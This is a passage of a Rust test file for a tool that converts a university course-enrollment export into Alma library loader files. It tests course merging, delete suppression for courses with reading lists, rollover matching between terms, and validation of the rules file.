        "C-1",
        "APPROVED",
        "1",
        "a",
        &[("COURSE_NAME", "ENG 101\nTitle")],
    )]);
    let (lines, s) = run(&input, DeleteGuard::Offline);
    assert!(joined_warnings(&s).is_empty() && s.rejects.is_empty());
    // The loader file has no line breaks in fields; the writer makes it a space.
    assert_eq!(lines[0][1], "ENG 101 Title");
}

// ---- merge -------------------------------------------------------------------------------

#[test]
fn merged_course_moves_instructors_and_ids_to_the_all_columns() {
    let (lines, _) = run(
        &cem(&[
            row("C-1", "APPROVED", "500", "a", &[]),
            row("C-1", "APPROVED", "500", "b", &[]),
            row("C-1", "APPROVED", "500", "a", &[]),
        ]),
        DeleteGuard::Offline,
    );
    let l = &lines[0];
    assert_eq!((l[INSTR1].as_str(), l[ALL_INSTR].as_str()), ("", "a,b"));
    assert_eq!(
        (l[SID1].as_str(), l[ALL_SIDS].as_str()),
        ("", "ENG 101,500")
    );
}

#[test]
fn lower_section_wins_and_both_sections_stay_searchable() {
    let mut kept = course_for_test("C", "700", "ENG 101", "a");
    kept.merge(course_for_test("C", "300", "ENG 101", "b").text());
    assert_eq!(kept.get(F::Section), "300");
    assert_eq!(kept.get(F::AllSearchableIds), "ENG 101,300,700");
    let mut kept = course_for_test("C", "300", "ENG 101", "a");
    kept.merge(course_for_test("C", "700", "ENG 101", "b").text());
    assert_eq!(
        (kept.get(F::Section), kept.get(F::AllSearchableIds)),
        ("300", "ENG 101,700")
    );
}

#[test]
fn non_numeric_sections_skip_the_lower_section_step() {
    let mut kept = course_for_test("C", "7A", "ENG 101", "a");
    kept.merge(course_for_test("C", "3", "ENG 101", "b").text());
    assert_eq!(
        (kept.get(F::Section), kept.get(F::AllSearchableIds)),
        ("7A", "ENG 101,3")
    );
}

#[test]
fn searchable_ids_are_capped_at_ten_but_the_lower_section_step_may_exceed_it() {
    let mut kept = course_for_test("C", "999", "ENG 101", "a");
    for s in 1..=12 {
        kept.merge(course_for_test("C", &format!("{}", 1000 + s), "ENG 101", "b").text());
    }
    assert_eq!(kept.get(F::AllSearchableIds).split(',').count(), 10);
    kept.merge(course_for_test("C", "5", "ENG 101", "b").text());
    let ids: Vec<&str> = kept.get(F::AllSearchableIds).split(',').collect();
    assert_eq!(ids.len(), 12);
    assert_eq!(&ids[10..], ["5", "999"]);
    assert_eq!(kept.get(F::Section), "5");
}

#[test]
fn empty_instructor_and_searchable_id_are_not_added() {
    let mut kept = course_for_test("C", "1", "", "");
    kept.merge(course_for_test("C", "1", "", "").text());
    assert_eq!(
        (kept.get(F::AllInstructors), kept.get(F::AllSearchableIds)),
        ("", "1")
    );
}

#[test]
fn delete_after_active_row_is_dropped_and_active_after_kept_delete_replaces_it_in_place() {
    let facts = alma(&[("1", "2026Fall-X-A-1", "1", &[], false)]);
    let (lines, s) = run(
        &cem(&[
            row("2026Fall-X-A-1", "DENIED", "1", "a", &[]),
            row("2026Fall-X-B-2", "APPROVED", "2", "b", &[]),
            row("2026Fall-X-B-2", "SUSPENDED", "2", "b", &[]),
            row("2026Fall-X-A-1", "APPROVED", "1", "c", &[]),
        ]),
        DeleteGuard::Alma(&facts),
    );
    let got: Vec<(&str, &str, &str)> = lines
        .iter()
        .map(|l| (l[CODE].as_str(), l[OP].as_str(), l[INSTR1].as_str()))
        .collect();
    assert_eq!(
        got,
        [("2026Fall-X-A-1", "", "c"), ("2026Fall-X-B-2", "", "b")]
    );
    assert_eq!(s.deletes.superseded, 2);
}

// ---- delete guard ----------------------------------------------------------------------

#[test]
fn delete_for_course_absent_from_alma_is_dropped_without_trace() {
    let facts = alma(&[("1", "2026Fall-X-A-1-9", "1", &[], false)]); // a longer code only
    let (lines, s) = run(
        &cem(&[
            row("2026Fall-X-A-1", "DENIED", "1", "a", &[]),
            row("2026Fall-X-B-2", "APPROVED", "2", "b", &[]),
            row("2026Fall-X-A-1", "APPROVED", "1", "c", &[]),
        ]),
        DeleteGuard::Alma(&facts),
    );
    let codes: Vec<&str> = lines.iter().map(|l| l[CODE].as_str()).collect();
    assert_eq!(codes, ["2026Fall-X-B-2", "2026Fall-X-A-1"]);
    assert_eq!(s.deletes.not_in_alma, 1);
}

#[test]
fn delete_row_for_course_with_reading_lists_is_suppressed() {
    let facts = alma(&[("1", "2026Fall-X-A-1", "1", &[], true)]);
    let (lines, s) = run(
        &cem(&[row("2026Fall-X-A-1", "DENIED", "1", "a", &[])]),
        DeleteGuard::Alma(&facts),
    );
    assert!(lines.is_empty());
    assert_eq!(s.deletes.suppressed_reading_lists, 1);
    assert_eq!(s.suppressed_deletes[0].course_code, "2026Fall-X-A-1");
}

#[test]
fn an_unclear_reading_list_answer_suppresses_that_delete_only_and_the_day_goes_on() {
    let mut facts = alma(&[
        ("1", "2026Fall-X-A-1", "1", &[], false),
        ("2", "2026Fall-X-B-2", "2", &[], false),
    ]);
    // Alma's answer for course 1 said neither a count nor a list.
    facts.reading_lists.remove("1");
    facts.unclear_reading_lists.insert("1".into());
    let (lines, s) = run(
        &cem(&[
            row("2026Fall-X-A-1", "DENIED", "1", "a", &[]),
            row("2026Fall-X-B-2", "DENIED", "2", "b", &[]),
            row("2026Fall-X-C-3", "APPROVED", "3", "c", &[]),
        ]),
        DeleteGuard::Alma(&facts),
    );
    let got: Vec<(&str, &str)> = lines
        .iter()
        .map(|l| (l[CODE].as_str(), l[OP].as_str()))
        .collect();
    assert_eq!(got, [("2026Fall-X-B-2", "DELETE"), ("2026Fall-X-C-3", "")]);
    assert_eq!(s.deletes.suppressed_unclear, 1);
    assert_eq!((s.deletes.sent, s.deletes.unverified), (1, 0));
    assert_eq!(s.deletes.suppressed_reading_lists, 0);
    assert_eq!(s.suppressed_deletes.len(), 1);
    assert_eq!(s.suppressed_deletes[0].course_code, "2026Fall-X-A-1");
    assert_eq!(
        s.suppressed_deletes[0].reason,
        Some("Alma's answer did not say")
    );
    let json = serde_json::to_value(&s).unwrap();
    assert_eq!(json["deletes"]["suppressed_unclear"], 1);
    assert_eq!(
        json["suppressed_deletes"][0]["reason"],
        "Alma's answer did not say"
    );
    assert!(
        s.to_string()
            .contains("superseded 0, suppressed (Alma's answer did not say) 1\n"),
        "{s}"
    );
}

#[test]
fn a_reading_list_suppression_carries_no_reason_and_the_summary_line_is_as_before() {
    let facts = alma(&[("1", "2026Fall-X-A-1", "1", &[], true)]);
    let (_, s) = run(
        &cem(&[row("2026Fall-X-A-1", "DENIED", "1", "a", &[])]),
        DeleteGuard::Alma(&facts),
    );
    let json = serde_json::to_value(&s).unwrap();
    assert!(
        json["suppressed_deletes"][0].get("reason").is_none(),
        "{json}"
    );
    assert_eq!(json["deletes"]["suppressed_unclear"], 0);
    assert!(
        s.to_string().contains(
            "deletes sent 0, suppressed (reading lists) 1, not in Alma 0, unverified (offline) 0, superseded 0\n"
        ),
        "{s}"
    );
}

#[test]
fn delete_row_for_course_without_reading_lists_is_sent() {
    let facts = alma(&[("1", "2026Fall-X-A-1", "1", &[], false)]);
    let (lines, s) = run(
        &cem(&[row("2026Fall-X-A-1", "SUSPENDED", "1", "a", &[])]),
        DeleteGuard::Alma(&facts),
    );
    assert_eq!(lines[0][OP], "DELETE");
    assert_eq!(s.deletes.sent, 1);
}

#[test]
fn a_delete_names_the_section_alma_holds_not_the_first_rows_sln() {
    // Cross-listed: Alma created the course with its lowest SLN, 39917; the export's first
    // DENIED row carries 46816.
    let facts = alma(&[("1", "2026Fall-X-CHM441-39917", "39917", &["46816"], false)]);
    let (lines, s) = run(
        &cem(&[
            row("2026Fall-X-CHM441-39917", "DENIED", "46816", "a", &[]),
            row("2026Fall-X-CHM441-39917", "DENIED", "39917", "b", &[]),
        ]),
        DeleteGuard::Alma(&facts),
    );
    let got: Vec<(&str, &str, &str)> = lines
        .iter()
        .map(|l| (l[CODE].as_str(), l[SECTION].as_str(), l[OP].as_str()))
        .collect();
    assert_eq!(got, [("2026Fall-X-CHM441-39917", "39917", "DELETE")]);
    assert_eq!((s.deletes.sent, s.courses_written), (1, 1));
}

#[test]
fn a_code_alma_holds_twice_gets_one_delete_per_section_in_its_place() {
    let facts = alma(&[
        ("1", "2026Fall-X-A-1", "11", &[], false),
        ("2", "2026Fall-X-A-1", "12", &[], false),
    ]);
    let (lines, s) = run(
        &cem(&[
            row("2026Fall-X-A-1", "DENIED", "99", "a", &[]),
            row("2026Fall-X-B-2", "APPROVED", "2", "b", &[]),
        ]),
        DeleteGuard::Alma(&facts),
    );
    let got: Vec<(&str, &str, &str)> = lines
        .iter()
        .map(|l| (l[CODE].as_str(), l[SECTION].as_str(), l[OP].as_str()))
        .collect();
    assert_eq!(
        got,
        [
            ("2026Fall-X-A-1", "11", "DELETE"),
            ("2026Fall-X-A-1", "12", "DELETE"),
            ("2026Fall-X-B-2", "2", ""),
        ]
    );
    assert_eq!((s.deletes.sent, s.courses_written), (2, 3));
}

#[test]
fn offline_delete_rows_are_held_back_as_unverified() {
    let (lines, s) = run(
        &cem(&[row("2026Fall-X-A-1", "DENIED", "1", "a", &[])]),
        DeleteGuard::Offline,
    );
    assert!(lines.is_empty());
    assert_eq!(s.deletes.unverified, 1);
}

#[test]
fn scan_lists_only_deletes_that_reach_the_guard() {
    let input = cem(&[
        row("2026Fall-X-A-1", "DENIED", "1", "a", &[]),
        row("2026Fall-X-A-1", "DENIED", "1", "b", &[]),
        row("2026Fall-X-B-2", "APPROVED", "2", "b", &[]),
        row("2026Fall-X-B-2", "DENIED", "2", "b", &[]),
    ]);
    let s = scan(&mut Cursor::new(input), &asu()).unwrap();
    let codes: Vec<&str> = s.delete_targets.iter().map(|t| t.code.as_str()).collect();
    assert_eq!(codes, ["2026Fall-X-A-1"]);
    assert_eq!(s.transform_years(), ["2026"]);
}

// ---- rollover ------------------------------------------------------------------------

fn rollover(
    rows: &[String],
    facts: &AlmaFacts,
) -> (Vec<Vec<String>>, super::summary::RolloverCounts) {
    let mut out = Vec::new();
    let s = rollover_report(&mut Cursor::new(cem(rows)), &asu(), facts, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let lines = text
        .split("\r\n")
        .skip(1)
        .filter(|l| !l.is_empty())
        .map(|l| l.split('\t').map(str::to_owned).collect())
        .collect();
    (lines, s.rollovers.unwrap())
}

fn copy(sln: &str, year: &str) -> [(&'static str, String); 2] {
    [
        ("COPY_COURSE_SLN", sln.to_string()),
        ("COPY_COURSE_SEMESTER_YEAR", year.to_string()),
    ]
}

fn with_copy(code: &str, sln: &str, year: &str) -> String {
    let c = copy(sln, year);
    row(
        code,
        "APPROVED",
        "9",
        "a",
        &[(c[0].0, &c[0].1), (c[1].0, &c[1].1)],
    )
}

#[test]
fn unique_section_match_with_reading_lists_is_a_rollover_with_old_code_and_section() {
    let facts = alma(&[("1", "2025Fall-X-OLD-72345", "72345", &[], true)]);
    let (lines, c) = rollover(&[with_copy("2026Fall-X-N-9", "72,345", "2025")], &facts);
    assert_eq!(
        (
            lines[0][OP].as_str(),
            lines[0][OLD_CODE].as_str(),
            lines[0][OLD_SECTION].as_str()
        ),
        ("ROLLOVER", "2025Fall-X-OLD-72345", "72345")
    );
    assert_eq!(c.found, 1);
}

#[test]
fn searchable_id_match_reports_the_matched_courses_section() {
    let facts = alma(&[("1", "2025Fall-X-OLD-500", "500", &["ENG 1", "12827"], true)]);
    let (lines, _) = rollover(&[with_copy("2026Fall-X-N-9", "12827", "2025")], &facts);
    assert_eq!(
        (lines[0][OLD_CODE].as_str(), lines[0][OLD_SECTION].as_str()),
        ("2025Fall-X-OLD-500", "500")
    );
}

#[test]
fn several_matches_are_ambiguous_and_none_is_not_found() {
    let facts = alma(&[
        ("1", "2025Fall-X-A-500", "500", &[], true),
        ("2", "2025Fall-X-B-600", "600", &["500"], true),
    ]);
    let (lines, c) = rollover(
        &[
            with_copy("2026Fall-X-N-1", "500", "2025"),
            with_copy("2026Fall-X-N-2", "777", "2025"),
            with_copy("2026Fall-X-N-3", "500", ""),
        ],
        &facts,
    );
    assert!(lines.is_empty());
    assert_eq!((c.ambiguous, c.not_found, c.candidates), (1, 2, 3));
}

#[test]
fn matched_course_without_reading_lists_is_no_rollover() {
    let facts = alma(&[("1", "2025Fall-X-A-500", "500", &[], false)]);
    let (lines, c) = rollover(&[with_copy("2026Fall-X-N-1", "500", "2025")], &facts);
    assert!(lines.is_empty());
    assert_eq!(c.without_reading_lists, 1);
}

#[test]
fn empty_zero_dash_or_non_numeric_copy_sln_is_not_a_candidate() {
    let facts = alma(&[("1", "2025Fall-X-A-500", "500", &[], true)]);
    let rows: Vec<String> = ["", "0", "-", "5x"]
        .iter()
        .enumerate()
        .map(|(i, s)| with_copy(&format!("C-{i}"), s, "2025"))
        .collect();
    let (lines, c) = rollover(&rows, &facts);
    assert!(lines.is_empty());
    assert_eq!(c.candidates, 0);
}

#[test]
fn delete_rows_never_become_rollovers() {
    let facts = alma(&[("1", "2025Fall-X-A-500", "500", &[], true)]);
    let c = copy("500", "2025");
    let (lines, _) = rollover(
        &[row(
            "2026Fall-X-N-1",
            "DENIED",
            "1",
            "a",
            &[(c[0].0, &c[0].1), (c[1].0, &c[1].1)],
        )],
        &facts,
    );
    assert!(lines.is_empty());
}

#[test]
fn rollover_exclusions_skip_matching_copy_terms() {
    let toml = super::rules::ASU_RULES_TOML.replace(
        "rollover_exclusions = []",
        "rollover_exclusions = [\"2025Fall\"]",
    );
    let rules = Rules::from_toml(&toml, "t").unwrap();
    let facts = alma(&[("1", "2025Fall-X-A-500", "500", &[], true)]);
    let mut out = Vec::new();
    let s = rollover_report(
        &mut Cursor::new(cem(&[with_copy("2026Fall-X-N-1", "500", "2025")])),
        &rules,
        &facts,
        &mut out,
    )
    .unwrap();
    assert_eq!(s.rollovers.unwrap().excluded, 1);
}

#[test]
fn copy_match_index_counts_a_course_once_when_its_section_is_also_a_searchable_id() {
    let mut index = CourseIndex::new();
    let c = AlmaCourse {
        id: "1".into(),
        code: "X".into(),
        section: "5".into(),
        year: "2025".into(),
        searchable_ids: vec!["5".into()],
    };
    index.insert_year("2025", Arc::new(vec![c]));
    assert!(matches!(
        index.copy_match("2025", "5"),
        super::facts::CopyMatch::Unique(_)
    ));
}

// ---- the institution profile (§9) ------------------------------------------------------

/// ASU's rules without their `[export]` table (the CEM export's defaults, spelled out).
fn asu_without_export() -> &'static str {
    super::rules::ASU_RULES_TOML
        .split("\n[export]")
        .next()
        .unwrap_or_default()
}

/// ASU's rules with another `[export]` table (`extra`).
fn asu_with(extra: &str) -> Result<Rules, RulesError> {
    Rules::from_toml(&format!("{}\n{extra}", asu_without_export()), "p.toml")
}

#[test]
fn a_key_the_rules_file_does_not_know_is_an_error_naming_it() {
    for (extra, key) in [
        ("colour = \"blue\"", "colour"),
        ("[export]\nseparator = \";\"", "separator"),
        ("[export.columns]\ncourse = \"COURSE\"", "course"),
        ("[export.statuses]\nkeep = [\"A\"]", "keep"),
        (
            "[[export.expect]]\nterm = \"1\"\nyear = \"2027\"\nstarts = \"2027-01-12\"\nends = \"x\"",
            "ends",
        ),
    ] {
        // A top-level key after a table would belong to it: put it first.
        let toml = if extra.starts_with('[') {
            format!("{}\n{extra}", asu_without_export())
        } else {
            format!("{extra}\n{}", super::rules::ASU_RULES_TOML)
        };
        let e = Rules::from_toml(&toml, "p.toml").unwrap_err().to_string();
        assert!(e.contains(&format!("`{key}`")), "{key}: {e}");
    }
}

#[test]
fn the_export_table_is_optional_and_defaults_to_the_cem_export() {
    let p = asu();
    let p = p.export();
    assert_eq!(p.delimiter(), b',');
    assert_eq!(p.header(super::Role::CourseCode), "MYASU_COURSE_IDSTRING");
    assert_eq!(p.header(super::Role::CopyTerm), "COPY_COURSE_SEMESTER_TERM");
    assert_eq!(p.status("REQUESTED"), super::StatusMeaning::Skip);
    assert_eq!(p.status("SUSPENDED"), super::StatusMeaning::Delete);
    assert_eq!(p.status("APPROVED"), super::StatusMeaning::Active);
    assert_eq!(p.coverage_warning_days(), 45);
    assert!(p.expect().is_empty());
    // The shipped file spells its defaults out; dropping the table changes nothing.
    assert!(super::rules::ASU_RULES_TOML.contains("\n[export]\n"));
    let bare = Rules::from_toml(asu_without_export(), "bare.toml").unwrap();
    assert_eq!(
        bare.export().header(super::Role::Term),
        p.header(super::Role::Term)
    );
}

#[test]
fn the_delimiter_must_be_one_character() {
    for bad in ["", ";;", "\\\"", "é", "\\n"] {
        let e = asu_with(&format!("[export]\ndelimiter = \"{bad}\""))
            .unwrap_err()
            .to_string();
        assert!(e.contains("export.delimiter must be one"), "{bad:?}: {e}");
    }
    let tab = asu_with("[export]\ndelimiter = \"\\t\"").unwrap();
    assert_eq!(tab.export().delimiter(), b'\t');
}

#[test]
fn a_bad_date_format_is_refused_when_the_rules_load() {
    for bad in ["%Q", "%H:%M", "%Y-%m", "plain"] {
        let e = asu_with(&format!("[export]\ndate_format = \"{bad}\""))
            .unwrap_err()
            .to_string();
        assert!(e.contains("export.date_format"), "{bad:?}: {e}");
    }
    let us = asu_with("[export]\ndate_format = \"%m/%d/%Y\"").unwrap();
    assert_eq!(
        us.export().parse_date("8/20/2026 12:00:00 AM"),
        chrono::NaiveDate::from_ymd_opt(2026, 8, 20)
    );
}

#[test]
fn a_column_named_twice_or_empty_and_a_status_in_both_lists_are_refused() {
    let e = asu_with("[export.columns]\ntitle = \"sln\"")
        .unwrap_err()
        .to_string();
    assert!(e.contains("title") && e.contains("section"), "{e}");
    let e = asu_with("[export.columns]\nterm = \" \"")
        .unwrap_err()
        .to_string();
    assert!(e.contains("export.columns.term is empty"), "{e}");
    let e = asu_with("[export.statuses]\nskip = [\"DENIED\"]")
        .unwrap_err()
        .to_string();
    assert!(e.contains("\"DENIED\" is in both"), "{e}");
    let e = asu_with("[[export.expect]]\nterm = \"1\"\nyear = \"2027\"\nstarts = \"soon\"")
        .unwrap_err()
        .to_string();
    assert!(e.contains("export.expect[0].starts"), "{e}");
}

#[test]
fn expected_terms_take_text_or_numbers_and_a_toml_date() {
    let rules = asu_with(
        "[export]\ncoverage_warning_days = 30\n\
         [[export.expect]]\nterm = 1\nyear = 2027\nstarts = 2027-01-12\n\
         [[export.expect]]\nterm = \"4\"\nyear = \"2027\"\nstarts = \"2027-05-17\"",
    )
    .unwrap();
    let p = rules.export();
    assert_eq!(p.coverage_warning_days(), 30);
    let got: Vec<(&str, &str, String)> = p
        .expect()
        .iter()
        .map(|e| (e.term.as_str(), e.year.as_str(), e.starts.to_string()))
        .collect();
    assert_eq!(
        got,
        [
            ("1", "2027", "2027-01-12".to_owned()),
            ("4", "2027", "2027-05-17".to_owned())
        ]
    );
}

#[test]
fn a_missing_column_names_the_exports_header_and_its_role() {
    let rules = asu_with("[export.columns]\nterm = \"TERM_CODE\"").unwrap();
    let e = transform(
        &mut Cursor::new(cem(&[row("C-1", "APPROVED", "1", "a", &[])])),
        &rules,
        DeleteGuard::Offline,
        Vec::new(),
    )
    .unwrap_err()
    .to_string();
    assert!(e.contains("no column TERM_CODE (term)"), "{e}");
    assert!(!e.contains("(section)"), "{e}");
}

#[test]
fn an_ending_of_nothing_matches_every_code_and_longer_endings_win() {
    let toml = super::rules::ASU_RULES_TOML.replace(
        "[terms.7]\n",
        "[terms.FA]\n\"\" = \"AUTUMN\"\nB = \"TERM2\"\n\n[terms.7]\n",
    );
    let rules = Rules::from_toml(&toml, "e.toml").unwrap();
    let term = |code| rules.term("FA", code).map(|id| rules.name(id).to_owned());
    assert_eq!(term("ENG101-X").as_deref(), Some("AUTUMN"));
    assert_eq!(term("").as_deref(), Some("AUTUMN"));
    assert_eq!(term("2026FallB-X").as_deref(), Some("TERM2"));
    assert_eq!(rules.term("7", "ENG101-X"), None);
}

/// `row`'s export under other names: `;`-separated, other status words, US dates.
fn renamed(rows: &[String]) -> Vec<u8> {
    let text = String::from_utf8(cem(rows)).unwrap();
    text.replace("MYASU_COURSE_IDSTRING", "CRS_CODE")
        .replace("COURSE_STATUS", "STATE")
        .replace(",TERM,", ",TERM_CODE,")
        .replace(",APPROVED,", ",ACTIVE,")
        .replace(",REQUESTED,", ",PENDING,")
        .replace(",DENIED,", ",CANCELLED,")
        .replace("2026-08-20 00:00:00.000000000", "08/20/2026")
        .replace("2026-12-11 00:00:00.000000000", "12/11/2026")
        .replace(',', ";")
        .into_bytes()
}

const RENAMED_EXPORT: &str = r#"
[export]
delimiter = ";"
date_format = "%m/%d/%Y"
[export.columns]
course_code = "CRS_CODE"
status = "state"
term = "TERM_CODE"
[export.statuses]
skip = ["PENDING"]
delete = ["CANCELLED"]
"#;

#[test]
fn another_exports_names_statuses_dates_and_separator_give_the_same_file() {
    let rows = [
        row("2026Fall-X-ENG101-1", "APPROVED", "1", "a", &[]),
        row("2026Fall-X-ENG101-1", "APPROVED", "2", "b", &[]),
        row("2026Fall-X-ENG102-3", "REQUESTED", "3", "c", &[]),
        row("2026Fall-X-ENG103-4", "DENIED", "4", "d", &[]),
        row("2026Fall-X-ENG104-5", "APPROVED", "5", "e", &[("TERM", "")]),
    ];
    let rules = asu_with(RENAMED_EXPORT).unwrap();
    let (mut cem_file, mut other_file) = (Vec::new(), Vec::new());
    let cem_day = transform(
        &mut Cursor::new(cem(&rows)),
        &asu(),
        DeleteGuard::Offline,
        &mut cem_file,
    )
    .unwrap();
    let other_day = transform(
        &mut Cursor::new(renamed(&rows)),
        &rules,
        DeleteGuard::Offline,
        &mut other_file,
    )
    .unwrap();
    assert_eq!(cem_file, other_file);
    assert_eq!(
        (other_day.rows_skipped, other_day.deletes.unverified),
        (1, 1)
    );
    assert_eq!(cem_day.rejects, other_day.rejects);
    assert_eq!(other_day.rejects[0].column, Some("term"));
    assert_eq!(cem_day.terms_seen, other_day.terms_seen);
}

#[test]
fn the_transform_notes_each_term_and_year_its_rows_hold_whatever_their_status() {
    let rows = [
        row("C-1", "APPROVED", "1", "a", &[]),
        row(
            "C-2",
            "REQUESTED",
            "2",
            "a",
            &[("TERM", "1"), ("YEAR", "2027")],
        ),
        row(
            "C-3",
            "APPROVED",
            "3",
            "a",
            &[("TERM", ""), ("YEAR", "2028")],
        ),
    ];
    let (_, s) = run(&cem(&rows), DeleteGuard::Offline);
    let seen = serde_json::to_value(&s.terms_seen).unwrap();
    assert_eq!(
        seen,
        serde_json::json!([{"term": "1", "year": "2027"}, {"term": "7", "year": "2026"}])
    );
}
